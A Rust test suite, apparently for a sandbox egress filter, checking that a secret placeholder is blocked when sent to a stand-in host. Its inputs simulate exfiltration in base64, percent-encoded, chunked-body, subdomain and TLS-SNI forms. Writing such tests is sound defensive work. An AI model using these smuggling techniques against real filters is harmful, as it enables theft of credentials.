//! A placeholder on its way to somebody else is stopped, whatever it is written like.

use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use hickory_proto::{
    op::{Message, Query, ResponseCode},
    rr::RecordType,
};
use sandbox_egress::{Reason, Verdict};

use crate::far::{Scene, begin, secret};

async fn scene() -> Scene {
    Scene::new(vec![secret("key", "a.example"), secret("other", "c.example")]).await
}

impl Scene {
    /// The placeholder in every form.
    fn forms(&self) -> Vec<String> {
        let placeholder = self.placeholder("key");
        let mark = placeholder.rsplit('_').next().unwrap();
        let mut forms = vec![
            placeholder.clone(),
            placeholder.to_uppercase(),
            mark.to_owned(),
            placeholder.bytes().map(|byte| format!("%{byte:02X}")).collect(),
            format!("%{mark}"),
        ];
        for before in ["", "u", "us", "user:"] {
            forms.push(STANDARD.encode(format!("{before}{placeholder}")));
            forms.push(URL_SAFE_NO_PAD.encode(format!("{before}{placeholder}")));
        }
        forms
    }

    /// Exactly one leak was told of, and nothing of it arrived.
    async fn stopped(&self, what: &str) {
        let leaks = std::mem::take(&mut *self.leaks.lock().unwrap());
        assert_eq!(leaks.len(), 1, "{what}: {leaks:?}");
        assert_eq!(leaks[0].secret, "key", "{what}");
        for _ in 0..100 {
            let found = self.world.records.lock().unwrap().iter().any(|record| {
                record.verdict == Verdict::Denied(Reason::SecretLeaving) && record.secret.as_deref() == Some("key")
            });
            if found {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
        // One that repeats is told of later, so earlier ones count too.
        let records = self.world.records.lock().unwrap().clone();
        assert!(records.iter().any(|record| record.secret.as_deref() == Some("key")), "{what}: {records:?}");
        assert_eq!(self.far.seen(), "", "{what}");
    }
}

#[tokio::test]
async fn in_plain_http_it_is_found_in_the_address_headers_and_body() {
    let scene = scene().await;
    for form in scene.forms() {
        let escaped = form.replace('/', "%2F").replace('+', "%2B");
        for request in [
            format!("GET /x?y={escaped} HTTP/1.1\r\nHost: b.example\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nHost: b.example\r\nX-Anything: {form}\r\n\r\n"),
            format!("POST / HTTP/1.1\r\nHost: b.example\r\nContent-Length: {}\r\n\r\nkey={form}", form.len() + 4),
        ] {
            let answer = scene.ask_plainly("b.example", request.as_bytes()).await;
            assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{request}: {answer}");
            assert!(answer.contains("secret `key`"), "{answer}");
            scene.stopped(&request).await;
        }
    }
}

#[tokio::test]
async fn in_plain_http_it_is_found_in_the_method() {
    let scene = scene().await;
    let request = format!("{} / HTTP/1.1\r\nHost: b.example\r\n\r\n", scene.placeholder("key"));
    let answer = scene.ask_plainly("b.example", request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{answer}");
    scene.stopped(&request).await;
}

#[tokio::test]
async fn in_a_body_it_is_found_across_pieces() {
    let scene = scene().await;
    for form in scene.forms() {
        for cut in [1, form.len() / 2, form.len() - 1] {
            let (one, two) = form.split_at(cut);
            let request = format!(
                "POST / HTTP/1.1\r\nHost: b.example\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{one}\r\n{:x}\r\n{two}\r\n4\r\nmore\r\n0\r\n\r\n",
                one.len(),
                two.len()
            );
            let answer = scene.ask_plainly("b.example", request.as_bytes()).await;
            assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{request}: {answer}");
            scene.stopped(&request).await;
        }
    }
}

#[tokio::test]
async fn it_is_found_in_tls_that_is_opened_for_another_secret() {
    let scene = scene().await;
    for form in scene.forms() {
        let request = format!("GET / HTTP/1.1\r\nHost: c.example\r\nX-Key: {form}\r\nConnection: close\r\n\r\n");
        let answer = scene.ask("c.example", &request).await;
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{form}: {answer}");
        scene.stopped(&form).await;
        let request = format!(
            "POST / HTTP/1.1\r\nHost: c.example\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{form}",
            form.len()
        );
        let answer = scene.ask("c.example", &request).await;
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{form}: {answer}");
        scene.stopped(&form).await;
    }
}

#[tokio::test]
async fn it_is_found_in_the_names_of_hosts() {
    let scene = scene().await;
    let placeholder = scene.placeholder("key");
    let mark = placeholder.rsplit('_').next().unwrap().to_owned();
    for name in [
        format!("{placeholder}.example"),
        format!("{mark}.example"),
        format!("x{}.example", mark.to_uppercase()),
        format!("{}.{}.example", &mark[..20], &mark[20..]),
        format!("{}.example", STANDARD.encode(format!("u:{mark}")).trim_end_matches('=')),
    ] {
        let answer = scene.world.connect(&name, b"").await;
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret_leaving"), "{name}: {answer}");
        scene.stopped(&name).await;
        assert_eq!(scene.world.socks(&name, b"").await[..4], [5, 0, 5, 2], "{name}");
        scene.stopped(&name).await;
        let answer = scene.world.say(format!("GET http://{name}/ HTTP/1.1\r\n\r\n").as_bytes()).await;
        assert!(answer.contains("secret_leaving"), "{name}: {answer}");
        scene.stopped(&name).await;
        let request = format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n");
        assert!(scene.ask_plainly("127.0.0.1", request.as_bytes()).await.contains("secret_leaving"), "{name}");
        scene.stopped(&name).await;
        let mut question = Message::query();
        question
            .add_query(Query::query(hickory_proto::rr::Name::from_ascii(format!("{name}.")).unwrap(), RecordType::A));
        let reply = scene.world.engine.answer_dns(&question.to_vec().unwrap()).unwrap();
        assert_eq!(Message::from_vec(&reply).unwrap().metadata.response_code, ResponseCode::NXDomain, "{name}");
        scene.stopped(&name).await;
    }
    assert_eq!(scene.world.questions.load(std::sync::atomic::Ordering::SeqCst), 0, "a name was looked up");
}

#[tokio::test]
async fn it_is_found_in_the_hello_of_tls() {
    let scene = scene().await;
    let mark = scene.placeholder("key").rsplit('_').next().unwrap().to_owned();
    for host in ["127.0.0.1", "b.example"] {
        let stream = scene.tunnel(host, scene.far.secure).await;
        let name = format!("{mark}.example");
        assert!(begin(stream, &name, &scene.far.root, b"http/1.1").await.is_err());
        scene.stopped(host).await;
    }
}
